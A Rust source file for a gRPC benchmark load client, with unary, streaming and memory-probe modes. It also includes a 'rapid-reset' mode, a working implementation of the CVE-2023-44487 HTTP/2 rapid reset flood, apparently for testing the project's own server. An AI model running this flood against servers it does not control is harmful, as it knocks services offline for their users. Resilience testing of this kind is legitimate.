//! The load client scripts/bench.sh drives (`benchmark_worker client ...`): closed-loop
//! unary, streaming ping-pong and server-streaming load, plus the memory probes (many idle
//! connections, many open streams). It prints one JSON line with the same fields as
//! bench/tonic-peer's client, so the two clients can be compared on the same server.
//!
//! Flags: `--target=http://127.0.0.1:PORT --mode=unary|pingpong|server-stream|
//! go-server-stream|idle-conns|open-streams|rapid-reset [--conns=1] [--concurrency=1] [--duration=5]
//! [--warmup=1] [--req_size=0] [--resp_size=0] [--streams=0] [--hold=5] [--lb_policy=NAME]`.
//! `--target` takes any channel target (`ipv4:127.0.0.1:P1,127.0.0.1:P2` with
//! `--lb_policy=round_robin` spreads each channel's calls over several servers).
//! `--concurrency` is the total number of outstanding calls, spread over `--conns`
//! connections. `go-server-stream` uses grpc-go's `UnconstrainedStreamingCall` (grpc-go 1.33's
//! benchmark server has no `StreamingFromServer`). The memory modes open the connections (and
//! `--streams` ping-pong streams, one exchange each), print `{"ready":...}` and hold them for
//! `--hold` seconds so the caller can read the server's RSS.

use std::io::Write;
use std::time::{Duration, Instant};

use grpc_runtime::{Channel, Request};
use tokio::sync::mpsc;

use crate::flags::Flags;
use crate::pb::benchmark_service_client::BenchmarkServiceClient;
use crate::pb::{Payload, SimpleRequest, SimpleResponse};

/// Flags of `benchmark_worker client`.
pub const CLIENT_FLAGS: &[&str] = &[
    "target",
    "mode",
    "conns",
    "concurrency",
    "duration",
    "warmup",
    "req_size",
    "resp_size",
    "streams",
    "hold",
    "lb_policy",
];

#[derive(Default)]
struct Tally {
    calls: u64,
    errors: u64,
    bytes: u64,
    lat_us: Vec<u32>,
}

fn payload_len(m: &SimpleResponse) -> u64 {
    m.payload.as_ref().map_or(0, |p| p.body.len() as u64)
}

fn micros(d: Duration) -> u32 {
    d.as_micros().min(u32::MAX as u128) as u32
}

fn outgoing(
    rx: mpsc::Receiver<SimpleRequest>,
) -> impl futures_core::Stream<Item = SimpleRequest> + Send + 'static {
    futures_util::stream::unfold(rx, |mut rx| async move { rx.recv().await.map(|m| (m, rx)) })
}

async fn worker(
    client: BenchmarkServiceClient,
    mode: String,
    req: SimpleRequest,
    measure: Instant,
    end: Instant,
) -> Tally {
    let mut t = Tally::default();
    match mode.as_str() {
        "unary" => loop {
            let t0 = Instant::now();
            if t0 >= end {
                break;
            }
            let r = client.unary_call(req.clone()).await;
            let dt = t0.elapsed();
            if t0 >= measure {
                match r {
                    Ok(resp) => {
                        t.calls += 1;
                        t.bytes += payload_len(resp.get_ref());
                        t.lat_us.push(micros(dt));
                    }
                    Err(_) => t.errors += 1,
                }
            }
        },
        "pingpong" => {
            // The first request goes into the channel before the call starts: a server may
            // hold its response headers until it has a message to answer (grpc-go does).
            let (tx, rx) = mpsc::channel(1);
            if tx.send(req.clone()).await.is_err() {
                t.errors += 1;
                return t;
            }
            let mut t0 = Instant::now();
            let mut incoming = match client.streaming_call(outgoing(rx)).await {
                Ok(r) => r.into_inner(),
                Err(_) => {
                    t.errors += 1;
                    return t;
                }
            };
            loop {
                match incoming.message().await {
                    Ok(Some(m)) => {
                        if t0 >= measure {
                            t.calls += 1;
                            t.bytes += payload_len(&m);
                            t.lat_us.push(micros(t0.elapsed()));
                        }
                    }
                    _ => {
                        t.errors += 1;
                        break;
                    }
                }
                t0 = Instant::now();
                if t0 >= end || tx.send(req.clone()).await.is_err() {
                    break;
                }
            }
        }
        "server-stream" | "go-server-stream" => {
            // For go-server-stream the request side stays open (holding `_keep`) all along.
            let mut _keep = None;
            let call = if mode == "server-stream" {
                client.streaming_from_server(req.clone()).await
            } else {
                let (tx, rx) = mpsc::channel(1);
                if tx.send(req.clone()).await.is_err() {
                    t.errors += 1;
                    return t;
                }
                let r = client
                    .channel()
                    .bidi_streaming::<_, SimpleRequest, SimpleResponse>(
                        "/grpc.testing.BenchmarkService/UnconstrainedStreamingCall",
                        Request::new(outgoing(rx)),
                    )
                    .await;
                _keep = Some(tx);
                r
            };
            let mut incoming = match call {
                Ok(r) => r.into_inner(),
                Err(_) => {
                    t.errors += 1;
                    return t;
                }
            };
            loop {
                let now = Instant::now();
                if now >= end {
                    break;
                }
                match tokio::time::timeout(end - now, incoming.message()).await {
                    Err(_) => break,
                    Ok(Ok(Some(m))) => {
                        if Instant::now() >= measure {
                            t.calls += 1;
                            t.bytes += payload_len(&m);
                        }
                    }
                    Ok(_) => {
                        t.errors += 1;
                        break;
                    }
                }
            }
        }
        m => {
            tracing::error!("unknown mode {m}");
            t.errors += 1;
        }
    }
    t
}

fn pct(sorted: &[u32], p: f64) -> f64 {
    if sorted.is_empty() {
        return 0.0;
    }
    let i = ((p / 100.0) * (sorted.len() as f64 - 1.0)).round() as usize;
    sorted[i.min(sorted.len() - 1)] as f64
}

/// A `--name=<seconds>` flag as a duration: non-negative, finite and under a year
/// (`Duration::from_secs_f64` would panic on a negative or huge value).
fn seconds(name: &str, v: f64) -> Result<Duration, String> {
    match Duration::try_from_secs_f64(v) {
        Ok(d) if d <= Duration::from_secs(365 * 86_400) => Ok(d),
        _ => Err(format!(
            "--{name}={v}: expected a number of seconds between 0 and 31536000"
        )),
    }
}

async fn connect(target: &str, lb_policy: &str) -> Result<Channel, String> {
    let mut b = Channel::builder(target.to_string());
    if !lb_policy.is_empty() {
        b = b.load_balancing_policy(lb_policy);
    }
    b.connect_timeout(Duration::from_secs(10))
        .max_decoding_message_size(super::service::MAX_MESSAGE)
        .connect()
        .await
        .map_err(|e| format!("connecting {target}: {e}"))
}

fn emit(line: &str) {
    let mut out = std::io::stdout().lock();
    let _ = writeln!(out, "{line}");
    let _ = out.flush();
}

/// Runs the load client with parsed flags; prints the JSON result line.
pub async fn run(flags: &Flags) -> Result<(), String> {
    let target = flags.string("target", "http://127.0.0.1:50051");
    let mode = flags.string("mode", "unary");
    let conns: usize = flags.num("conns", 1usize)?.max(1);
    let concurrency: usize = flags.num("concurrency", 1usize)?.max(1);
    let duration = seconds("duration", flags.num("duration", 5.0f64)?)?;
    let warmup = seconds("warmup", flags.num("warmup", 1.0f64)?)?;
    let req_size: usize = flags.num("req_size", 0usize)?;
    let resp_size: i32 = flags.num("resp_size", 0i32)?;
    let streams: usize = flags.num("streams", 0usize)?;
    let hold: f64 = flags.num("hold", 5.0f64)?;
    let lb_policy = flags.string("lb_policy", "");
    let req = SimpleRequest {
        response_size: resp_size,
        payload: Some(Payload {
            r#type: 0,
            body: vec![0u8; req_size],
        }),
        ..Default::default()
    };
    if mode == "rapid-reset" {
        return rapid_reset(&target, conns, duration).await;
    }
    let mut channels = Vec::with_capacity(conns);
    for _ in 0..conns {
        channels.push(connect(&target, &lb_policy).await?);
    }
    if mode == "idle-conns" || mode == "open-streams" {
        return memory_probe(&channels, &mode, streams, hold).await;
    }
    let start = Instant::now();
    let measure = start + warmup;
    let end = measure + duration;
    let mut tasks = Vec::with_capacity(concurrency);
    for i in 0..concurrency {
        let c = BenchmarkServiceClient::new(channels[i % conns].clone());
        tasks.push(tokio::spawn(worker(
            c,
            mode.clone(),
            req.clone(),
            measure,
            end,
        )));
    }
    let mut all = Tally::default();
    for t in tasks {
        if let Ok(t) = t.await {
            all.calls += t.calls;
            all.errors += t.errors;
            all.bytes += t.bytes;
            all.lat_us.extend(t.lat_us);
        }
    }
    all.lat_us.sort_unstable();
    let secs = duration.as_secs_f64().max(1e-9);
    emit(&format!(
        "{{\"impl\":\"grpc-rust\",\"mode\":\"{mode}\",\"conns\":{conns},\"concurrency\":{concurrency},\"calls\":{},\"errors\":{},\"secs\":{secs},\"qps\":{:.1},\"mbps\":{:.2},\"p50_us\":{},\"p90_us\":{},\"p99_us\":{}}}",
        all.calls,
        all.errors,
        all.calls as f64 / secs,
        all.bytes as f64 / secs / 1e6,
        pct(&all.lat_us, 50.0),
        pct(&all.lat_us, 90.0),
        pct(&all.lat_us, 99.0),
    ));
    for c in &channels {
        c.shutdown();
    }
    Ok(())
}

/// Opens the connections (one unary call each so they are really up) and `streams`
/// ping-pong streams spread over them, reports readiness, holds them for `hold` seconds.
/// CVE-2023-44487 "rapid reset": on each of `conns` raw h2 connections, opens a stream
/// (a complete unary request head) and resets it at once, as fast as the connection
/// allows, for `duration`. A connection the server closes is counted and reopened.
/// Prints `{"impl":"rapid-reset","streams":N,"per_sec":R,"goaways":G}`.
async fn rapid_reset(target: &str, conns: usize, duration: Duration) -> Result<(), String> {
    let addr = target
        .trim_start_matches("http://")
        .trim_end_matches('/')
        .to_string();
    let end = Instant::now() + duration;
    let mut tasks = Vec::new();
    for _ in 0..conns {
        let addr = addr.clone();
        tasks.push(tokio::spawn(async move {
            let (mut streams, mut goaways) = (0u64, 0u64);
            while Instant::now() < end {
                let Ok(tcp) = tokio::net::TcpStream::connect(&addr).await else {
                    break;
                };
                let _ = tcp.set_nodelay(true);
                let Ok((mut send, conn)) = h2::client::handshake(tcp).await else {
                    break;
                };
                let driver = tokio::spawn(conn);
                loop {
                    if Instant::now() >= end {
                        break;
                    }
                    let Ok(ready) = send.clone().ready().await else {
                        break;
                    };
                    send = ready;
                    let uri = format!("http://{addr}/grpc.testing.BenchmarkService/UnaryCall");
                    let req = http::Request::post(uri)
                        .header("content-type", "application/grpc")
                        .header("te", "trailers")
                        .body(())
                        .map_err(|e| e.to_string());
                    let Ok(req) = req else { break };
                    match send.send_request(req, false) {
                        Ok((_, mut body)) => {
                            body.send_reset(h2::Reason::CANCEL);
                            streams += 1;
                            if streams % 64 == 0 {
                                tokio::task::yield_now().await;
                            }
                        }
                        Err(_) => break,
                    }
                }
                goaways += 1;
                driver.abort();
            }
            (streams, goaways.saturating_sub(1))
        }));
    }
    let (mut streams, mut goaways) = (0u64, 0u64);
    for t in tasks {
        if let Ok((s, g)) = t.await {
            streams += s;
            goaways += g;
        }
    }
    emit(&format!(
        "{{\"impl\":\"rapid-reset\",\"streams\":{streams},\"per_sec\":{:.0},\"goaways\":{goaways}}}",
        streams as f64 / duration.as_secs_f64().max(1e-9)
    ));
    Ok(())
}

async fn memory_probe(
    channels: &[Channel],
    mode: &str,
    streams: usize,
    hold: f64,
) -> Result<(), String> {
    let mut ok_conns = 0;
    for ch in channels {
        let c = BenchmarkServiceClient::new(ch.clone());
        if c.unary_call(SimpleRequest::default()).await.is_ok() {
            ok_conns += 1;
        }
    }
    let mut held = Vec::new();
    let mut ok_streams = 0;
    if mode == "open-streams" {
        for i in 0..streams {
            let c = BenchmarkServiceClient::new(channels[i % channels.len()].clone());
            let (tx, rx) = mpsc::channel(1);
            if tx.send(SimpleRequest::default()).await.is_err() {
                continue;
            }
            match c.streaming_call(outgoing(rx)).await {
                Ok(r) => {
                    let mut incoming = r.into_inner();
                    if let Ok(Some(_)) = incoming.message().await {
                        ok_streams += 1;
                    }
                    held.push((tx, incoming));
                }
                Err(e) => return Err(format!("opening stream {i}: {e}")),
            }
        }
    }
    emit(&format!(
        "{{\"ready\":true,\"mode\":\"{mode}\",\"conns\":{ok_conns},\"streams\":{ok_streams}}}"
    ));
    tokio::time::sleep(seconds("hold", hold)?).await;
    drop(held);
    for c in channels {
        c.shutdown();
    }
    Ok(())
}
